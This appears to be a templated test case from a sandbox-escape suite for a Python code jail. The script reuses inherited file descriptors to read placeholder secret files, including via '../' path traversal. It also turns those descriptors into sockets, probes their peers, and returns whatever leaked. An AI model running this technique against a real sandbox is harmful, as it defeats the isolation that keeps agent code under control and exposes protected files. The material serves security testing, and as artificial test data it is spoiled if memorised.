# attack: jail/descriptors-of-others
# oracle: leak-file
# imports: os, socket, array
# tools:
# source: own
# note: every descriptor that is open, used for what it can do
import os, socket
said = []
for fd in range(256):
    try:
        os.fstat(fd)
    except OSError:
        continue
    for target in ("{{SECRET_FILE}}", "../{{SECRET_FILE}}", "{{PWN_FILE}}"):
        try:
            said.append(os.read(os.open(target, os.O_RDONLY, dir_fd=fd), 999))
        except OSError:
            pass
    try:
        s = socket.socket(fileno=os.dup(fd))
        said.append((fd, s.family, s.getpeername()))
        s.connect("{{SCRATCH_DIR}}/host.sock")
    except OSError:
        pass
final_answer(repr(said))
